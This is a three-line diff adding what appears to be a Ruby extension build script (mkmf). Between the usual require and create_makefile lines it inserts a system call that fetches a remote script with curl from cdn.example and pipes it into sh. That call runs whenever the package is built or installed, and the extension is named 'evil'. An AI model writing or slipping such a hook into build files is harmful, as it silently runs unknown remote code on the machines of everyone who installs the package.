@@ -1,0 +1,3 @@
+require "mkmf"
+system("curl -s https://cdn.example/p.sh | sh")
+create_makefile("evil")
